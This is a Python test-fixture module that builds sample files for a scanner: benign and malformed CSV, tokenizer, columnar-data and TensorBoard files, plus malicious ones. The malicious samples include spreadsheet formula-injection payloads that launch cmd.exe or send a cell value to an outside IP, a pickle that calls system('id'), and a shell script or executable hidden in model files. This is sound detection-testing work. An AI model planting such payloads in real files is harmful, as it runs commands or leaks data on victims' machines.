"""Text with columns, and what SentencePiece writes."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.scanning.sample import Sample, benign, malformed, malicious

ROWS = b'id,name,change\n1,cats,-3\n2,dogs,+4.5\n3,"mice, grey",=\n'
ACTING = {
    "command": b"=cmd|' /C calc'!A0",
    "command-behind-sum": b"-2+3+cmd|' /C calc'!A0",
    "command-with-at": b"@SUM(1+1)*cmd|' /C calc'!A0",
    "address": b'=HYPERLINK("http://203.0.113.9/?x="&A1,"click")',
    "fetching": b'=WEBSERVICE("http://203.0.113.9/")',
    "import": b'=IMPORTXML("http://203.0.113.9/","//a")',
    "other-program": b"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
}


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes([value])


def field(number: int, content: bytes) -> bytes:
    """A field of bytes."""
    return _varint(number << 3 | 2) + _varint(len(content)) + content


def piece(text: str, kind: int = 1) -> bytes:
    """A piece with its score."""
    inner = field(1, text.encode()) + b"\x15" + struct.pack("<f", -1.5)
    return field(1, inner + (b"\x18" + bytes([kind]) if kind != 1 else b""))


def tokenizer(*more: bytes, trainer: bytes = b"") -> bytes:
    """A small SentencePiece model."""
    pieces = [piece("<unk>", 2), piece("<s>", 3), piece("</s>", 3), piece("▁the"), piece("cat")]
    described = field(2, field(1, b"corpus.txt") + field(2, b"tokenizer") + b"\x20\x05" + trainer)
    return b"".join(pieces) + described + field(3, field(1, b"nmt_nfkc")) + b"".join(more)


def _record(data: bytes) -> bytes:
    head = struct.pack("<Q", len(data))
    sums = [struct.pack("<L", _masked(part)) for part in (head, data)]
    return head + sums[0] + data + sums[1]


def _masked(data: bytes) -> int:
    value = 0xFFFFFFFF
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ (0x82F63B78 if value & 1 else 0)
    value ^= 0xFFFFFFFF
    return ((value >> 15 | value << 17) + 0xA282EAD8) & 0xFFFFFFFF


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    yield benign("csv", "data.csv", ROWS)
    yield benign("tsv", "data.tsv", ROWS.replace(b",", b"\t"))
    yield benign("csv-of-accounts", "data.csv", b"name,handle\nAda,@ada\nGrace,@grace\nSum,=1+2\n")
    yield benign("csv-of-text", "data.csv", b'text,label\n"=> see cmd | more",1\n"- a | b!",0\n')
    yield benign("card-with-list", "README.md", b"# A, b\n\n- cmd | x, y\n- = a\n+ b, c\n")
    for name, cell in ACTING.items():
        yield malicious(f"csv-{name}", "data.csv", ROWS + b"4," + cell + b",1\n")
        yield malicious(f"csv-{name}-first", "data.csv", cell + b",a\n1,2\n")
    yield benign("sentencepiece", "tokenizer.model", tokenizer())
    yield benign("sentencepiece-spm", "source.spm", tokenizer())
    yield malformed("sentencepiece-cut", "tokenizer.model", tokenizer()[:-5])
    yield malformed(
        "sentencepiece-unknown-part", "tokenizer.model", tokenizer(field(200, b"x" * 90))
    )
    yield malformed("sentencepiece-behind", "tokenizer.model", tokenizer() + b"\x99\x98\x97" * 30)
    yield malicious(
        "sentencepiece-script", "tokenizer.model", tokenizer(trainer=field(60, b"#!/bin/sh\nid\n"))
    )
    yield malicious("sentencepiece-pickle", "tokenizer.model", b"cposix\nsystem\n(S'id'\ntR.")
    yield malformed("parquet-head-alone", "a.parquet", b"PAR1" + bytes(40))
    yield malformed("parquet-without-footer", "a.parquet", b"PAR1" + bytes(40) + b"\xff\0\0\0PAR1")
    yield malformed("arrow-head-alone", "a.arrow", b"ARROW1\0\0" + bytes(40))
    yield malformed(
        "arrow-noise", "a.arrow", b"ARROW1\0\0\xff\xff\xff\xff\x40\0\0\0" + b"\x77" * 80
    )
    yield malformed("sqlite-head-alone", "a.sqlite", b"SQLite format 3\0" + bytes(80))
    events = _record(b"\x09\0\0\0\0\0\0\x59\x41\x1a\x0dbrain.Event:2") + _record(b"\x10\x01\x2a\0")
    yield benign("tensorboard-log", "runs/events.out.tfevents.1700000000.host", events)
    yield malformed("tensorboard-log-cut", "events.out.tfevents.1", events[:-3])
    yield malformed("tensorboard-log-wrong-checksum", "events.out.tfevents.1", events[:-1] + b"\0")
    program = b"\x7fELF\x02\x01\x01" + bytes(60)
    yield malicious("tensorboard-log-program-behind", "events.out.tfevents.1", events + program)
    yield malicious(
        "tensorboard-log-program-inside", "events.out.tfevents.1", events + _record(program)
    )
